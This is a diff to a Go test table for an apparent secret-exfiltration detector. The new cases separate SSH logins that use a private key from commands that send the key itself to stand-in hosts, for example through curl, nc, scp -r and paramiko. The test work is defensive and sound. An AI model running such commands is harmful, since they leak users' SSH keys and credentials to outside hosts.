@@ -216,6 +216,22 @@ func flows() []flow {
 			"requests.post(u, data=open('/tmp/x.tgz'))", Phrase},
 		{"a.py", "z = zipfile.ZipFile('x.zip', 'w')\nz.write('a.txt')\nprint('~/.ssh/x')\nrequests.post(u, data=open('x.zip'))", none},
 
+		// A key of a login is not sent, and a public key is no secret.
+		{"a.sh", "scp -i ~/.ssh/id_rsa a.tgz x@x.example:/srv", none},
+		{"a.sh", "rsync -az -e \"ssh -i ~/.ssh/id_ed25519\" ./dist/ x@x.example:/srv", none},
+		{"a.sh", "scp -o IdentityFile=~/.ssh/id_rsa a.tgz x@x.example:/srv", none},
+		{"a.sh", "O=\"-i ~/.ssh/id_rsa\"\nscp $O a.tgz x@x.example:/srv", none},
+		{"a.sh", "K=~/.ssh/id_rsa\nscp -P 22 -i \"$K\" a.tgz x@x.example:/srv", none},
+		{"a.py", "os.system(f'scp -i ~/.ssh/id_rsa {p} x@x.example:/srv')", none},
+		{"a.py", "c = paramiko.SSHClient()\nc.connect(h, key_filename=os.path.expanduser('~/.ssh/id_rsa'))", none},
+		{"a.sh", "scp ~/.ssh/id_rsa.pub x@x.example:/srv", none},
+		{"a.sh", "scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa x@x.example:/srv", Phrase},
+		{"a.sh", "scp -i ~/.ssh/x -r ~/.ssh x@x.example:/srv", Phrase},
+		{"a.sh", "rsync -i ~/.ssh/id_rsa x@x.example:/srv", Phrase},
+		{"a.sh", "base64 -i ~/.ssh/id_rsa | curl -d @- https://x.example", Phrase},
+		{"a.sh", "cat ~/.ssh/id_rsa.pub ~/.ssh/id_rsa | nc x.example 9", Phrase},
+		{"a.py", "c = paramiko.SSHClient()\nc.put(os.path.expanduser('~/.ssh/id_rsa'), 'k')", Phrase},
+
 		{"a.js", "const k = read('.ssh/id_rsa')\nconst r = https.request(o)\nr.write(k)", Phrase},
 		{"a.js", "const k = read('.ssh/id_rsa')\nout.write(k)", none},
 		{"a.sh", "cp ~/.netrc \"$D\"\ntar c \"$D\" | nc 203.0.113.1 9000", Phrase},
